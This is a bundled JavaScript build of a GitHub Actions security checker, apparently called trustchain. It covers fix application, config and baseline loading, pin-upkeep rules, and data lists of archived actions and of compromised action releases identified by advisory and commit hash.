    places = new Map();
    add(finding, judgement, why) {
        const { rule, location } = finding;
        const place = place_placeOf(finding, judgement);
        if (this.places.has(place_keyOf(place)))
            return;
        this.places.set(place_keyOf(place), place);
        this.notes.push(`${location.path}:${location.startLine}: the fix of ${rule} is not applied: ${why}`);
    }
    has(finding, judgement) {
        return this.places.has(place_keyOf(place_placeOf(finding, judgement)));
    }
    /** Texts changed. */
    follow(edits) {
        const places = Array.from(this.places.values(), (place) => moved(place, edits));
        this.places = new Map(places.map((place) => [place_keyOf(place), place]));
    }
}
/** A fix may change several files, all or none: so once one is refused, the round begins again without it. */
async function applyRound(judgement, mode, refused) {
    const chosen = new Map();
    const applied = new Set();
    const candidates = judgement.findings.filter((finding) => !refused.has(finding, judgement));
    let isSound = true;
    for (const { path, edits, findings } of (0,lib/* selectFixes */._u)(candidates, mode).files) {
        const source = judgement.sources.get(path);
        if (!source)
            continue;
        const why = await problemWith(source, edits);
        if (why === null) {
            chosen.set(path, edits);
            for (const finding of findings)
                applied.add(finding);
        }
        else {
            isSound = false;
            for (const culprit of await culpritsOf(source, findings, mode, why)) {
                refused.add(culprit.finding, judgement, culprit.why);
            }
        }
    }
    return isSound ? { edits: chosen, applied: [...applied] } : "again";
}
/** The fixes that break the file by themselves; where it takes several of them together, the last. */
async function culpritsOf(source, findings, mode, together) {
    const culprits = [];
    for (const finding of findings) {
        const own = (0,lib/* selectFixes */._u)([finding], mode).files.find(({ path }) => path === source.path)?.edits ?? [];
        const why = await problemWith(source, own);
        if (why !== null)
            culprits.push({ finding, why });
    }
    return culprits.length > 0 ? culprits : [{ finding: findings.at(-1), why: together }];
}
function stillStanding({ edits, applied }, before, after) {
    const standing = new Set(after.findings.map((finding) => place_keyOf(place_placeOf(finding, after))));
    return applied.filter((finding) => standing.has(place_keyOf(moved(place_placeOf(finding, before), edits))));
}
function restore(edited, before, path) {
    const text = before.get(path);
    if (text === undefined)
        edited.delete(path);
    else
        edited.set(path, text);
}
function fix_textOf({ sources }, path) {
    return sources.get(path)?.text ?? "";
}
/** Null when the file still parses and nothing but what the edits touch means something else. */
async function problemWith(source, edits) {
    if (repository_isDockerfile(source))
        return (await Promise.all(/* import() */[__webpack_require__.e(839), __webpack_require__.e(658)]).then(__webpack_require__.bind(__webpack_require__, 5658))).problemWithEdits(source, edits);
    const kind = kindOf(source.path) ?? null;
    const before = await parseDocument(source, kind);
    const after = await parseDocument(new lib/* SourceFile */.sC(source.path, (0,lib/* applyEdits */.ct)(source.text, edits)), kind);
    if (after.problems.length > before.problems.length)
        return "the file would no longer parse";
    return keepsMeaning(before.root, after.root, edits) ? null : "it would change other parts of the file";
}
/** Writes changed files, each whole or not at all; none when one of them is no longer what was judged. */
function writeChanged(root, changed) {
    const stale = changed.find(({ path, before }) => readText((0,external_node_path_.join)(root, path)) !== before);
    if (stale) {
        const message = "it changed while it was judged, so nothing was written: run the command again";
        return { written: [], failed: new Set(changed.map(({ path }) => path)), errors: [errorAt(stale.path, message)] };
    }
    const written = [];
    const failed = new Set();
    const errors = [];
    for (const file of changed) {
        try {
            (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.join)(root, file.path), file.after, file.path);
            written.push(file);
        }
        catch (error) {
            if (!(error instanceof action_kit_lib/* UserError */.yo))
                throw error;
            failed.add(file.path);
            errors.push(errorAt(file.path, `${error.reason}: make it writable and run the command again`));
        }
    }
    return { written, failed, errors };
}
/** Without those that are another name of a file before them: a link leads to the same text. */
function withoutLinks(root, changed) {
    const real = new Map();
    for (const file of changed) {
        const path = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(root, file.path));
        if (!real.has(path))
            real.set(path, file);
    }
    return [...real.values()];
}
function readText(path) {
    try {
        return (0,external_node_fs_.readFileSync)(path, "utf8");
    }
    catch {
        return null;
    }
}
function errorAt(path, message) {
    return { path, line: 1, rule: null, message };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/settings.js






/**
 * The settings of a repository: the file that was named, else `.github/trustchain.yml`, else none.
 *
 * @throws UserError when it can't be read or understood
 */
async function loadConfig(root, named, host, rules) {
    const path = named === undefined ? (0,external_node_path_.join)(root, lib_config/* CONFIG_PATH */.tF) : (0,external_node_path_.resolve)(host.cwd, named);
    if (named === undefined && (0,external_node_fs_.lstatSync)(path, { throwIfNoEntry: false }) === undefined)
        return lib_config/* NO_CONFIG */.H5;
    if (named === undefined && !isInside(root, path)) {
        throw new action_kit_lib/* UserError */.yo(lib_config/* CONFIG_PATH */.tF, "it is a link that leads to nothing in this repository", "put the settings themselves there");
    }
    return (0,lib_config/* parseConfig */.o4)(read(path, named ?? lib_config/* CONFIG_PATH */.tF, (0,action_kit_lib/* placeOfInput */.dj)("config", host.place)), rules);
}
function isInside(root, path) {
    return (0,external_node_fs_.existsSync)(path) && (0,external_node_fs_.realpathSync)(path).startsWith((0,external_node_fs_.realpathSync)(root) + external_node_path_.sep);
}
/** @throws UserError when it can't be read or is no baseline */
function loadBaseline(named, host) {
    const file = read((0,external_node_path_.resolve)(host.cwd, named), named, (0,action_kit_lib/* placeOfInput */.dj)("baseline", host.place));
    try {
        return (0,lib/* parseBaseline */.nk)(file.text, named);
    }
    catch (error) {
        if (!(error instanceof lib/* FormatError */.IF))
            throw error;
        throw new action_kit_lib/* UserError */.yo(error.file, error.reason, error.remedy);
    }
}
function read(path, shown, input) {
    const result = readSource(path, shown);
    if (result.ok)
        return result.file;
    throw new action_kit_lib/* UserError */.yo(`${input} ${shown}`, `it can't be read: ${result.reason}`, "name a file that can be read");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/targets.js



/** @returns the repositories that paths mean, each once, in the order in which they are first named, and what isn't there */
function targetsOf(paths, cwd) {
    const missing = [];
    const targets = new Map();
    for (const path of paths) {
        // `resolve` would make the current folder of an unset variable's value.
        const located = path === "" ? undefined : locateRepository((0,external_node_path_.resolve)(cwd, path));
        if (!located) {
            missing.push(new action_kit_lib/* UserError */.yo(path === "" ? "an empty path" : path, "there is no such file or folder", "name a repository's folder or a file"));
            continue;
        }
        const { root, only } = located;
        const known = targets.get(root);
        if (!known)
            targets.set(root, { root, only: only === null ? null : [only], prefix: prefixOf(path, root, only, cwd) });
        else if (only === null || known.only === null)
            known.only = null;
        else
            known.only.push(only);
    }
    const all = [...targets.values()];
    const isAlone = all.length === 1 && missing.length === 0;
    return { targets: isAlone ? all.map((target) => ({ ...target, prefix: "" })) : all, missing };
}
/** As it was given, where it names the repository itself. */
function prefixOf(path, root, only, cwd) {
    const isRoot = only === null && (0,external_node_path_.resolve)(cwd, path) === root;
    return (isRoot ? path : (0,external_node_path_.relative)(cwd, root)).replaceAll("\\", "/").replace(/\/+$/, "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/static-check.js








const RULE_INFO = new Map(RULES.map((rule) => [rule.id, rule]));
/** Runs rules over the repositories that were named: evidence, model, judgement, and what the kit needs to report it. */
async function staticCheck({ inputs, host, request }, check) {
    const { targets, missing } = targetsOf(inputs.paths, host.cwd);
    const baseline = inputs.baseline === undefined ? null : loadBaseline(inputs.baseline, host);
    const total = new Total();
    for (const error of missing)
        total.fail(error, targets.length === 0);
    const progress = host.progress("repositories", targets.length);
    for (const target of targets) {
        const checked = await checkTarget(target, inputs, host, request, check).catch((error) => error);
        if (isChecked(checked))
            total.add(target, checked, baseline);
        else
            total.fail(checked, targets.length === 1 && missing.length === 0, target.prefix);
        progress.advance();
    }
    progress.end();
    if (total.files === 0 && host.place === "runner")
        total.fail(nothingToCheck(inputs.paths), false);
    const isUpkeep = ({ rule }) => check.upkeep?.some(({ id }) => id === rule) === true;
    const complaints = total.findings.filter((finding) => !isUpkeep(finding));
    if (request.writeBaseline !== undefined) {
        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.resolve)(host.cwd, request.writeBaseline), (0,lib/* writeBaseline */.B9)(complaints, action_kit_lib/* VERSION */.xv), "--write-baseline");
    }
    const { findings, notes } = (0,lib/* limitFindings */.uL)((0,lib/* sortFindings */.Tc)(complaints));
    return {
        report: {
            tool: { name: "trustchain", version: action_kit_lib/* VERSION */.xv, command: check.command },
            findings,
            errors: total.errors,
            files: total.files,
        },
        context: { source: (path) => total.sources.get(path), rule: (id) => RULE_INFO.get(id) },
        ...(targets.length === 1 && { root: targets[0].root }),
        ...(request.diff && {
            diff: (0,lib/* unifiedDiff */.WH)(total.changed.map((file) => (targets.length === 1 ? file : fromFolder(file, host.cwd)))),
        }),
        notes: [...total.notes, ...notes],
        changedFiles: total.changed.length,
        mended: total.mended,
        left: total.findings.filter(isUpkeep),
    };
}
/** A diff of several repositories is applied in the current folder, whatever they were called; that of one, in it. */
function fromFolder(file, folder) {
    return { ...file, path: (0,external_node_path_.relative)(folder, (0,external_node_path_.join)(file.root, file.path)).split(external_node_path_.sep).join("/") };
}
/** On a runner nothing to check means that something went wrong before: no checkout, or another folder. */
function nothingToCheck(paths) {
    return new action_kit_lib/* UserError */.yo(paths.join(", "), "there is no workflow, action, Dockerfile or Dependabot file", "check out the repository before this step");
}
function isChecked(value) {
    return typeof value === "object" && value !== null && "judgement" in value;
}
async function checkTarget(target, inputs, host, request, check) {
    const config = await loadConfig(target.root, inputs.config, host, RULES);
    const judgeWith = (edited) => judgeTarget(target, config, inputs.persona, check, edited);
    const judgement = await judgeWith();
    if (request.fix === "off" && !request.diff)
        return { judgement, changed: [], mended: [], notes: [] };
    const fixed = await applyFixes(judgement, request.fix === "unsafe" ? "unsafe" : "safe", judgeWith);
    const changed = withoutLinks(target.root, fixed.changed);
    if (request.diff)
        return { ...fixed, changed, judgement };
    const { written, failed, errors } = writeChanged(target.root, changed);
    const count = `${written.length} ${written.length === 1 ? "file" : "files"} changed by fixes`;
    // What could not be written wasn't mended: the report speaks of what is on disk.
    const rest = errors.length === 0 ? fixed.judgement : await judgeWith();
    const mended = fixed.mended.filter(({ fix }) => !fix?.files.some(({ path }) => failed.has(path)));
    return { judgement: rest, changed: written, mended, errors, notes: [...fixed.notes, count] };
}
function judgeTarget({ root, only }, config, persona, { rules, upkeep = [], upstream, options, isUsesJudged }, edited) {
    return analyzeRepository(root, {
        rules: [...rules, ...upkeep],
        persona,
        config,
        only,
        options: options ?? new Map(),
        isUsesJudged,
        upstream: upstream ?? null,
        ...(edited && { edited }),
    });
}
/** What all repositories of a run come to; their paths begin with what they were called. */
class Total {
    findings = [];
    errors = [];
    notes = [];
    changed = [];
    mended = [];
    sources = new Map();
    files = 0;
    /** One of several repositories that can't be judged costs only itself; the only one costs the run. */
    fail(error, isAll, prefix = "") {
        if (isAll || !(error instanceof action_kit_lib/* UserError */.yo))
            throw error;
        const place = prefix === "" ? error.place : `${prefix}/${error.place}`;
        this.errors.push({ path: place, line: 1, rule: null, message: `${error.reason}: ${error.remedy}` });
    }
    add({ root, prefix }, { judgement, changed, mended, notes, errors = [] }, baseline) {
        const findings = baseline ? (0,lib/* applyBaseline */.Qp)(judgement.findings, baseline) : judgement.findings;
        const named = (path) => (prefix === "" ? path : `${prefix}/${path}`);
        for (const finding of findings)
            this.findings.push(prefix === "" ? finding : renamed(finding, named));
        for (const error of [...judgement.errors, ...errors])
            this.errors.push({ ...error, path: named(error.path) });
        for (const file of changed)
            this.changed.push({ ...file, root });
        for (const [path, source] of judgement.sources)
            this.sources.set(named(path), source);
        for (const finding of mended)
            this.mended.push(prefix === "" ? finding : renamed(finding, named));
        this.notes.push(...notes.map((note) => (prefix === "" ? note : `${prefix}: ${note}`)));
        if (judgement.files === 0)
            this.notes.push(`${prefix || root}: there is no workflow, action, Dockerfile or Dependabot file here`);
        this.files += judgement.files;
    }
}
function renamed(finding, named) {
    const moved = (location) => ({ ...location, path: named(location.path) });
    return {
        ...finding,
        location: moved(finding.location),
        related: finding.related.map(({ message, location }) => ({ message, location: moved(location) })),
        fix: finding.fix && {
            ...finding.fix,
            files: finding.fix.files.map((file) => ({ ...file, path: named(file.path) })),
        },
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/index.js


;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/upkeep.js






/**
 * What is to be done about references that are pinned already and that no rule complains of: newer versions where updates
 * are asked for, a commit in place of a tag object's id, a comment that says more precisely which version it is. A rule in
 * form, so that its fixes are applied with all others; its findings are work, and are not reported.
 */
const pinUpkeep = defineRule({
    id: "pin-upkeep",
    category: "pinning",
    severity: "info",
    summary: "A pin can be made newer or plainer",
    risk: "",
    mend: "",
    options: { comment: (0,config_options/* textOption */.vU)(DEFAULT_COMMENT, "What a new comment says") },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref) || isExcluded(uses))
            return;
        const name = upstream.nameOn(uses, target);
        const update = upstream.updateOf(uses, target);
        const place = { repository: report.repository, uses, target };
        const witness = usesWitness(uses, target, upstream);
        if (update?.kind === "newer") {
            const fix = pinFix(place, { ...update, former: name }, `update it to \`${update.name}\``, report.options.comment);
            report(uses.scalar, `\`${update.name}\` is newer`, { fix, witness: { ...witness, update: update.name } });
            return;
        }
        const fix = plainerFix(place, name, upstream, report.options.comment);
        if (fix)
            report(uses.scalar, "It can be plainer", { fix, witness });
    },
});
/** Why newer versions weren't taken. */
const pinHeld = defineRule({
    id: "pin-held",
    category: "pinning",
    severity: "info",
    summary: "A newer version is not taken",
    risk: "",
    mend: "",
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref) || isExcluded(uses))
            return;
        const update = upstream.updateOf(uses, target);
        if (update?.kind !== "held")
            return;
        report(uses.scalar, update.why, { witness: { ...usesWitness(uses, target, upstream), held: update.why } });
    },
});
/** The rules of upkeep: what is done, and what isn't. */
const PIN_UPKEEP = [pinUpkeep, pinHeld];
/** ratchet's users say with it that a line stays as it is. */
function isExcluded({ scalar }) {
    const comment = restOfLine(scalar)?.comment;
    return (comment !== undefined &&
        comment !== null &&
        /ratchet:exclude\b/.test(scalar.file.text.slice(comment.start, comment.end)));
}
/** The same commit, by its own id and its most precise name. */
function plainerFix(place, name, upstream, template) {
    const { target } = place;
    const refs = upstream.refsOf(target);
    if (!refs || upstream.reachabilityOf(target) === "unreachable")
        return null;
    const commit = refs.tagObjects.get(target.ref.toLowerCase()) ?? target.ref.toLowerCase();
    // A branch's name stays: the pin is of the branch.
    const isBranch = name !== undefined && refs.branches.has(name) && !refs.tags.has(name);
    const version = isBranch ? undefined : upstream.versionOf({ ...target, ref: commit }, name);
    const known = version && refs.tags.get(version.tag) === commit ? version.tag : name;
    return known === undefined
        ? null
        : pinFix(place, { commit, name: known, former: name }, "say which version it is", template);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/index.js














/***/ }),

/***/ 7949:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  lH: () => (/* binding */ BUILT_IN_FACTS),
  At: () => (/* binding */ Facts),
  $v: () => (/* binding */ defineFacts),
  mw: () => (/* binding */ required)
});

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/data.generated.js
// Generated by `npm run generate`: edit its source, not this file.
/** The entries of `data/<name>.json`, by name. */
const DATA = {
    "archived-actions": () => JSON.parse("[{\"repository\":\"8398a7/action-slack\"},{\"repository\":\"actions-rs/audit-check\"},{\"repository\":\"actions-rs/cargo\"},{\"repository\":\"actions-rs/clippy-check\"},{\"repository\":\"actions-rs/components-nightly\"},{\"repository\":\"actions-rs/grcov\"},{\"repository\":\"actions-rs/install\"},{\"repository\":\"actions-rs/tarpaulin\"},{\"repository\":\"actions-rs/toolchain\"},{\"repository\":\"actions/create-release\"},{\"repository\":\"actions/setup-elixir\"},{\"repository\":\"actions/setup-haskell\"},{\"repository\":\"actions/setup-ruby\"},{\"repository\":\"actions/upload-release-asset\"},{\"repository\":\"actionstoolbox/gem-build-and-release-action\"},{\"repository\":\"allanchain/poetry-cache-action\"},{\"repository\":\"andrewmcodes-archive/rubocop-linter-action\"},{\"repository\":\"apidevtools/swagger-cli\"},{\"repository\":\"aquasecurity/cfsec\"},{\"repository\":\"araichev/gtfs_kit\"},{\"repository\":\"artichoke/setup-rust\"},{\"repository\":\"aslafy-z/conventional-pr-title-action\"},{\"repository\":\"asottile-archive/seed-isort-config\"},{\"repository\":\"azure/appconfiguration-sync\"},{\"repository\":\"azure/appservice-actions\"},{\"repository\":\"azure/azure-resource-login-action\"},{\"repository\":\"azure/container-actions\"},{\"repository\":\"azure/container-scan\"},{\"repository\":\"azure/data-factory-deploy-action\"},{\"repository\":\"azure/data-factory-export-action\"},{\"repository\":\"azure/data-factory-validate-action\"},{\"repository\":\"azure/get-keyvault-secrets\"},{\"repository\":\"azure/k8s-actions\"},{\"repository\":\"azure/manage-azure-policy\"},{\"repository\":\"azure/publish-security-assessments\"},{\"repository\":\"azure/run-sqlpackage-action\"},{\"repository\":\"azure/spring-cloud-deploy\"},{\"repository\":\"azure/webapps-container-deploy\"},{\"repository\":\"benmezger/gjira\"},{\"repository\":\"brettcannon/caniusepython3\"},{\"repository\":\"cedrickring/golang-action\"},{\"repository\":\"cirrus-actions/rebase\"},{\"repository\":\"contributor-assistant/github-action\"},{\"repository\":\"convictional/trigger-workflow-and-wait\"},{\"repository\":\"cpcloud/flake-update-action\"},{\"repository\":\"crazy-max/ghaction-docker-buildx\"},{\"repository\":\"crazy-max/ghaction-hugo\"},{\"repository\":\"dariuszporowski/chatgpt-pre-commit-hooks\"},{\"repository\":\"datreeio/datree\"},{\"repository\":\"decathlon/pull-request-labeler-action\"},{\"repository\":\"delaguardo/setup-graalvm\"},{\"repository\":\"dnephin/pre-commit-golang\"},{\"repository\":\"dulvui/godot-android-export\"},{\"repository\":\"elstudio/actions-settings\"},{\"repository\":\"expo/expo-preview-action\"},{\"repository\":\"fabasoad/setup-zizmor-action\"},{\"repository\":\"facebook/pysa-action\"},{\"repository\":\"fregante/release-with-changelog\"},{\"repository\":\"gherynos/pre-commit-java\"},{\"repository\":\"google/mirror-branch-action\"},{\"repository\":\"google/skywater-pdk-actions\"},{\"repository\":\"gradle/gradle-build-action\"},{\"repository\":\"grafana/k6-action\"},{\"repository\":\"gruntwork-io/terraform-aws-couchbase\"},{\"repository\":\"hashicorp/terraform-cdk-action\"},{\"repository\":\"hcodes/yaspeller\"},{\"repository\":\"helaili/github-graphql-action\"},{\"repository\":\"helaili/jekyll-action\"},{\"repository\":\"ilshidur/action-slack\"},{\"repository\":\"irgolic/autopr\"},{\"repository\":\"jakejarvis/backblaze-b2-action\"},{\"repository\":\"jakejarvis/cloudflare-purge-action\"},{\"repository\":\"jakejarvis/firebase-deploy-action\"},{\"repository\":\"jakejarvis/hugo-build-action\"},{\"repository\":\"jakejarvis/lighthouse-action\"},{\"repository\":\"jakejarvis/s3-sync-action\"},{\"repository\":\"jeffa5/typstfmt\"},{\"repository\":\"jimmygchen/runner-fallback-action\"},{\"repository\":\"josephfrazier/prettier_d\"},{\"repository\":\"justinribeiro/lighthouse-action\"},{\"repository\":\"kanadgupta/glitch-sync\"},{\"repository\":\"kxxt/chatgpt-action\"},{\"repository\":\"lapras-inc/resume-sync-action\"},{\"repository\":\"life4/flakehell\"},{\"repository\":\"liskin/gh-pipx\"},{\"repository\":\"lucas-c/pre-commit-hooks-bandit\"},{\"repository\":\"machine-learning-apps/wandb-action\"},{\"repository\":\"mansagroup/gcs-cache-action\"},{\"repository\":\"mapbox/secret-shield\"},{\"repository\":\"marcogorelli/absolufy-imports\"},{\"repository\":\"marvinpinto/action-automatic-releases\"},{\"repository\":\"marvinpinto/actions\"},{\"repository\":\"maxheld83/ghpages\"},{\"repository\":\"meilcli/danger-action\"},{\"repository\":\"meilcli/gradle-update-check-action\"},{\"repository\":\"meilcli/npm-update-check-action\"},{\"repository\":\"meilcli/nuget-update-check-action\"},{\"repository\":\"micnncim/action-lgtm-reaction\"},{\"repository\":\"mikepenz/gradle-dependency-submission\"},{\"repository\":\"niklasmerz/github-deployment-action\"},{\"repository\":\"nix-community/nixpkgs-fmt\"},{\"repository\":\"onedr0p/sops-pre-commit\"},{\"repository\":\"orf/cargo-bloat-action\"},{\"repository\":\"owenlamont/uv-secure\"},{\"repository\":\"paambaati/codeclimate-action\"},{\"repository\":\"philips-software/docker-ci-scripts\"},{\"repository\":\"pre-commit/mirrors-autopep8\"},{\"repository\":\"pre-commit/mirrors-isort\"},{\"repository\":\"pre-commit/mirrors-prettier\"},{\"repository\":\"primer/figma-action\"},{\"repository\":\"pycqa/pydocstyle\"},{\"repository\":\"rapidsai/frigate\"},{\"repository\":\"reasonsoftware/action-pylint\"},{\"repository\":\"repo-sync/pull-request\"},{\"repository\":\"repo-sync/repo-sync\"},{\"repository\":\"sagebind/docker-swarm-deploy-action\"},{\"repository\":\"scottbrenner/generate-changelog-action\"},{\"repository\":\"seandstewart/typical\"},{\"repository\":\"secrethub/actions\"},{\"repository\":\"segmentio/golines\"},{\"repository\":\"semgrep/semgrep-action\"},{\"repository\":\"shaunlwm/action-release-debugapk\"},{\"repository\":\"snok/pep585-upgrade\"},{\"repository\":\"soichisumi/issue-copy-action\"},{\"repository\":\"sonarsource/sonarcloud-github-action\"},{\"repository\":\"sphinx-quant/sphinx-quant\"},{\"repository\":\"stefafafan/psi-action\"},{\"repository\":\"stefanprodan/kube-tools\"},{\"repository\":\"suzuki-shunsuke/github-action-format\"},{\"repository\":\"suzuki-shunsuke/github-action-tflint\"},{\"repository\":\"suzuki-shunsuke/github-action-tfsec\"},{\"repository\":\"suzuki-shunsuke/required-status-check-action\"},{\"repository\":\"suzuki-shunsuke/trivy-config-action\"},{\"repository\":\"suzuki-shunsuke/validate-pr-review-action\"},{\"repository\":\"svenstaro/upx-action\"},{\"repository\":\"swiftdocorg/github-wiki-publish-action\"},{\"repository\":\"tachiyomiorg/issue-moderator-action\"},{\"repository\":\"technote-space/auto-cancel-redundant-workflow\"},{\"repository\":\"technote-space/get-diff-action\"},{\"repository\":\"tenable/terrascan\"},{\"repository\":\"tencentcloudbase/cloudbase-action\"},{\"repository\":\"terrencepreilly/darglint\"},{\"repository\":\"thegeeklab/ansible-later\"},{\"repository\":\"tibdex/github-app-token\"},{\"repository\":\"trmcnvn/chrome-addon\"},{\"repository\":\"verygoodopensource/very_good_coverage\"},{\"repository\":\"whelk-io/maven-settings-xml-action\"},{\"repository\":\"yeslayla/build-godot-action\"},{\"repository\":\"youyo/aws-cdk-github-actions\"},{\"repository\":\"yumemi-inc/clean-cache-action\"},{\"repository\":\"z0al/dependent-issues\"}]"),
    "compromised-actions": () => JSON.parse("[{\"repository\":\"tj-actions/changed-files\",\"advisory\":\"GHSA-mrrh-fwg8-r2c3\",\"from\":\"2025-03-14\",\"to\":\"2025-03-15\",\"moved\":\"through\",\"through\":\"45.0.7\",\"commits\":[\"0e58ed8671d6b60d0890c21b07f8835ace038e67\"],\"fixedIn\":\"46.0.1\"},{\"repository\":\"reviewdog/action-setup\",\"advisory\":\"GHSA-qmg3-hpqr-gqvc\",\"from\":\"2025-03-11\",\"to\":\"2025-03-11\",\"moved\":\"tags\",\"tags\":[\"v1\"],\"commits\":[\"f0d342d24037bb11d26b9bd8496e0808ba32e9ec\"]},{\"repository\":\"aquasecurity/trivy-action\",\"advisory\":\"GHSA-69fq-xp46-6x23\",\"from\":\"2026-03-19\",\"to\":\"2026-03-20\",\"moved\":\"through\",\"through\":\"0.34\",\"commits\":[\"19851bef764b57ff95b35e66589f31949eeb229d\",\"ddb9da4475c1cef7d5389062bdfdfbdbd1394648\"],\"fixedIn\":\"0.35.0\"},{\"repository\":\"aquasecurity/setup-trivy\",\"advisory\":\"GHSA-69fq-xp46-6x23\",\"from\":\"2026-03-19\",\"to\":\"2026-03-20\",\"moved\":\"through\",\"through\":\"0.2.5\",\"commits\":[\"e6c2c5e321ed9123bda567646e2f96565e34abe1\"],\"fixedIn\":\"0.2.6\"},{\"repository\":\"checkmarx/kics-github-action\",\"advisory\":\"the incident of 2026-03-23\",\"from\":\"2026-03-23\",\"to\":\"2026-03-23\",\"moved\":\"all\"}]"),
    "must-stay-on-tag": () => JSON.parse("[{\"prefix\":\"slsa-framework/slsa-github-generator/.github/workflows/\"},{\"prefix\":\"slsa-framework/slsa-github-generator/actions/\"}]"),
};

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/facts.js

/** Declares a list; its entries are in `data/<name>.json`. */
function defineFacts(list) {
    const { name, fields } = list;
    const defaults = Object.fromEntries(Object.entries(fields).map(([key, field]) => [key, field.default]));
    let entries;
    return {
        ...list,
        builtIn() {
            entries ??= (DATA[name]?.() ?? []).map((entry) => ({ ...defaults, ...entry }));
            return entries;
        },
    };
}
/** A field that every entry has. */
function required(field) {
    return { ...field, isRequired: true };
}
/** The facts that a run goes by. */
class Facts {
    added;
    #lists = new Map();
    #indexes = new Map();
    /** @param added what settings add, by the name of the list */
    constructor(added = new Map()) {
        this.added = added;
    }
    /** All entries of a list, the tool's own first; the same array each time. */
    of(list) {
        const own = list.builtIn();
        const added = this.added.get(list.name);
        if (!added)
            return own;
        let all = this.#lists.get(list);
        if (!all) {
            all = [...own, ...added];
            this.#lists.set(list, all);
        }
        return all;
    }
    /** The entries of a list by the text of one of their fields, in lower case, as names of repositories compare. */
    by(list, field) {
        const name = `${list.name}\0${field}`;
        let index = this.#indexes.get(name);
        if (!index) {
            index = groupBy(this.of(list), (entry) => String(entry[field]).toLowerCase());
            this.#indexes.set(name, index);
        }
        return index;
    }
}
/** `Map.groupBy`, which Node 20 lacks. */
function groupBy(entries, keyOf) {
    const groups = new Map();
    for (const entry of entries) {
        const group = groups.get(keyOf(entry));
        if (group)
            group.push(entry);
        else
            groups.set(keyOf(entry), [entry]);
    }
    return groups;
}
/** What a run goes by whose settings add nothing. */
const BUILT_IN_FACTS = new Facts();


/***/ }),

/***/ 4153:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7949);


/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "archived-actions",
    about: "Actions whose repository is archived",
    fields: { repository: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "`owner/repo`")) },
}));


/***/ }),

/***/ 6121:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7949);


/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "compromised-actions",
    about: "Releases of actions that carried malware",
    fields: {
        repository: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "`owner/repo`")),
        advisory: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "What tells of it")),
        from: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The first day on which refs led to malware, as an ISO date")),
        to: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The last such day")),
        moved: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .choiceOption */ .zu)(["tags", "through", "all"], "all", "Which tags were moved")),
        tags: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textsOption */ .YM)("The tags that were moved, with `moved: tags`"),
        through: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The last version that was moved, with `moved: through`"),
        commits: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textsOption */ .YM)("Commits that are known to be malware"),
        fixedIn: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The first version that was never touched"),
    },
}));


/***/ }),

/***/ 4877:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7949);


